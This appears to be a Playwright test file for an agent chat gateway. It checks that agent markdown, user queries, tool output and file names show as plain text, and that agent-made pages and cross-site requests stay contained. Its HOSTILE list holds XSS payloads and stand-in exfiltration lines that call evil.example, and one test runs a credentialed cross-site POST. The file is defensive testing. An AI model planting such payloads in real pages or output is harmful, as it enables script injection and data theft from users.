"""What agents, users and files say is shown, and never done."""

from collections.abc import Callable

from playwright.sync_api import expect

from tests.support.browser import Tab
from tests.support.fakes.script import file, script, succeed, tool_call, tool_result
from tests.support.fakes.script import text as said
from tests.support.fakes.scripted_backend import ScriptedBackend
from tests.support.fakes.tcp_proxy import http_proxy
from tests.support.gateway_server import GatewayServer

HOSTILE = [
    "<script>window.done = 1</script>",
    "<img src=x onerror='window.done = 1'>",
    "<svg onload='window.done = 1'></svg>",
    "<iframe srcdoc='<script>parent.done = 1</script>'></iframe>",
    "[click](javascript:window.done=1)",
    "[click](JaVaScRiPt&colon;window.done=1)",
    "[click](data:text/html,<script>window.done=1</script>)",
    "![tracker](http://evil.example/pixel.png?said=secret)",
    "<form action='http://evil.example'><input name=q><button>Send</button></form>",
    "<a href='x' style='position:fixed;inset:0' onclick='window.done=1'>all over</a>",
    "<style>body { display: none }</style>",
    "<base href='http://evil.example/'><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=done=1&gt;'>",
    '```html"onmouseover="window.done=1\n<script>window.done = 1</script>\n```',
    '[x](http://example.com "title\\" onmouseover=window.done=1")',
    "| a |\n|---|\n| <img src=x onerror=window.done=1> |",
    "- [x] <details open ontoggle=window.done=1>",
    '<div id="composer" class="hidden" data-icon="x">clobbered</div>',
]
LIVE = "script:not([src]), iframe, object, embed, .markdown :is(form, img, svg, style, base, meta, details)"


def check_harmless(tab: Tab, server: GatewayServer) -> None:
    assert tab.page.evaluate("window.done") is None
    assert tab.page.locator(LIVE).count() == 0
    attributes = tab.page.evaluate(
        "[...document.querySelectorAll('.markdown *')].flatMap((one) => one.getAttributeNames())"
    )
    allowed = {"href", "title", "class", "start", "type", "checked", "disabled", "align"}
    assert set(attributes) <= allowed | {"target", "rel", "aria-label", "tabindex"}
    links = tab.page.evaluate("[...document.querySelectorAll('.markdown a')].map((one) => one.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:", ":"}
    assert tab.hosts == {server.url.removeprefix("http://")}


def test_markdown_of_an_agent_is_only_text(
    tab: Tab, site_server: GatewayServer, fake: ScriptedBackend
) -> None:
    for number, hostile in enumerate(HOSTILE):
        # Letter by letter: no half of it does anything, either.
        fake.queue(script(said(*hostile, f"\n\nThe end of {number}"), succeed()))
        tab.ask(f"Attack {number}")
        tab.wait_for_end()
        expect(tab.text).to_contain_text(f"The end of {number}")
        check_harmless(tab, site_server)
        for link in tab.text.locator("a").all():
            assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    tab.page.reload()
    expect(tab.text).to_contain_text("The end of")
    check_harmless(tab, site_server)


def test_what_a_user_says_is_only_text(tab: Tab, site_server: GatewayServer) -> None:
    query = "".join(HOSTILE[:4])
    tab.ask(query)
    tab.wait_for_end()
    check_harmless(tab, site_server)
    expect(tab.queries).to_have_text(query)
    # It also names the conversation.
    expect(tab.conversations.first).to_contain_text("<script>")


def test_what_a_tool_says_is_only_text(tab: Tab, site_server: GatewayServer, fake: ScriptedBackend) -> None:
    evil = "<img src=x onerror='window.done = 1'>"
    fake.queue(
        script([*tool_call("1", evil, {"a": evil}), *tool_result("1", evil, evil)], said("Done"), succeed())
    )
    tab.ask("Use it")
    tab.wait_for_end()
    tab.last.locator("details").evaluate("one => (one.open = true)")
    expect(tab.last.locator(".output")).to_have_text(evil)
    check_harmless(tab, site_server)


def test_names_of_files_are_only_text(tab: Tab, site_server: GatewayServer) -> None:
    name = "<img src=x onerror=window.done=1>\u202egnp.txt"
    tab.attach(name, b"text")
    expect(tab.page.locator("#chips")).to_contain_text("onerror")
    tab.ask("Read it")
    tab.wait_for_end()
    expect(tab.page.locator(".question-box .files")).to_contain_text("onerror")
    check_harmless(tab, site_server)


def test_a_page_that_an_agent_makes_is_no_page_of_the_gateway(
    tab: Tab, site_server: GatewayServer, fake: ScriptedBackend
) -> None:
    page = b"<script>fetch('/info').then(() => document.title = 'mine')</script>"
    fake.queue(script(said("Here."), file(page, "text/html"), succeed()))
    tab.ask("Make a page")
    tab.wait_for_end()
    url = str(tab.last.locator(".files a").evaluate("one => one.href"))
    response = tab.page.request.get(url)
    assert (
        "attachment" in response.headers["content-disposition"]
        or "html" not in response.headers["content-type"]
    )
    assert "default-src 'none'" in response.headers["content-security-policy"]


def test_another_site_gets_nothing_with_the_cookie(
    site_server: GatewayServer, fake: ScriptedBackend, open_tab: Callable[..., Tab]
) -> None:
    """A page of another port of the same host: for SameSite it is the same site."""
    with http_proxy(site_server.url, []) as proxy:
        tab = open_tab(proxy)
        page = tab.page.context.new_page()
        page.goto(f"{fake.url}/openapi.json")
        page.evaluate(
            """([url, body]) => fetch(url, {method: "POST", credentials: "include", mode: "no-cors", body})
                .catch(() => null)""",
            [f"{proxy.url}/chat-messages", '{"query": "evil", "user": "evil"}'],
        )
        [sent] = [head for head in proxy.heads if head.startswith("post /chat-messages")]
        assert "cookie: agent_gateway_session" in sent
        assert "sec-fetch-site: same-site" in sent
        listed = tab.page.evaluate("fetch('/conversations?user=evil').then((response) => response.json())")
        assert listed["data"] == []
